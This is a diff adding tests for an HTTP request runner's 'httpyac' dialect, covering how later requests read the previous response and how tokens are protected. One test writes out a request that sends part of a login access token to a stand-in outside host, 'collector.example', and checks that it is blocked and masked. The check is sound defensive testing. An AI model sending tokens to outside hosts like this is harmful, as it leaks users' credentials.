@@ -264,6 +264,57 @@ describe('scripts of httpyac', () => {
     expect(received[0]?.url).toBe('/a?s1');
   });
 
+  it('reads the response of the request before, in expressions and blocks', async () => {
+    const { base, received } = await server();
+    const { send } = session(
+      [
+        `GET ${base}/login`,
+        '',
+        '###',
+        '{{',
+        '  exports.status = response.statusCode;',
+        '}}',
+        `GET ${base}/{{response.parsedBody.user.id}}?{{status}}`,
+        '',
+        '###',
+        `GET ${base}/a?{{response.parsedBody.got === ""}}`,
+      ].join('\n'),
+      { dialect: 'httpyac' },
+    );
+    expect((await send(1)).result.error).toMatchObject({ code: 'script_failed' });
+    for (const at of [0, 1, 2]) expect((await send(at)).result.error).toBeNull();
+    expect(received.map(({ url }) => url)).toEqual(['/login', '/7?200', '/a?true']);
+  });
+
+  it('leaves the name "response" to a variable of the file', async () => {
+    const { base, received } = await server();
+    const { send } = session(
+      ['@response = mine', `GET ${base}/login`, '', '###', `GET ${base}/{{response.toUpperCase()}}`].join(
+        '\n',
+      ),
+      { dialect: 'httpyac' },
+    );
+    for (const at of [0, 1]) expect((await send(at)).result.error).toBeNull();
+    expect(received[1]?.url).toBe('/MINE');
+  });
+
+  it('keeps a token of the response before where it may go', async () => {
+    const { base } = await server();
+    const { send, redactor } = session(
+      [
+        `GET ${base}/login`,
+        '',
+        '###',
+        'GET http://collector.example/x',
+        'X-Token: {{response.parsedBody.access_token.slice(4)}}',
+      ].join('\n'),
+      { dialect: 'httpyac' },
+    );
+    expect((await send(0)).result.error).toBeNull();
+    expect((await send(1)).result.error).toMatchObject({ code: 'insecure_origin' });
+    expect(redactor.mask(TOKEN.slice(4))).not.toContain(TOKEN.slice(4));
+  });
+
   it('says which expression failed, and sends nothing', async () => {
     const { base, received } = await server();
     const { send } = session(`GET ${base}/a?{{none.field}}`, { dialect: 'httpyac' });
